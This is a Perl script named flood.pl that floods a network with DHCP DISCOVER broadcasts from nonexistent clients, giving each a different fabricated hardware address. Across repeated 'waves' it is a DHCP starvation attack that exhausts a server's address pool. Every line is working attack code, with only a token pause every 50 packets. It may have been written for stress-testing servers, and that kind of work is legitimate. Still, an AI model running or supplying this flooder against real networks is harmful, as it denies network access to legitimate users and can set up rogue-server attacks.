#!/usr/bin/env perl
# DISCOVERs of clients that do not exist, each with another hardware address, as fast as they leave.
#   flood.pl INTERFACE COUNT WAVE     no two waves have an address in common
use strict;
use warnings;
use Socket;

my ($interface, $count, $wave) = @ARGV;
socket(my $socket, PF_INET, SOCK_DGRAM, 17) or die "socket: $!";
setsockopt($socket, SOL_SOCKET, SO_BROADCAST, 1) or die "broadcast: $!";
setsockopt($socket, SOL_SOCKET, 25, pack('Z16', $interface)) or die "SO_BINDTODEVICE: $!";
bind($socket, pack_sockaddr_in(68, INADDR_ANY)) or die "bind: $!";
my $to = pack_sockaddr_in(67, INADDR_BROADCAST);
for my $number (1 .. $count) {
  my $card = pack('nN', 0x0200 + $wave, $number);
  my $message = pack('C4 N n n x16 a16 x64 x128 N', 1, 1, 6, 0, $number, 0, 0x8000, $card, 0x63825363)
    . "\x35\1\1\xff";
  send($socket, $message . "\0" x 56, 0, $to) or die "send: $!";
  # The server's receive buffer is no larger than the kernel allows.
  select(undef, undef, undef, 0.01) if $number % 50 == 0;
}
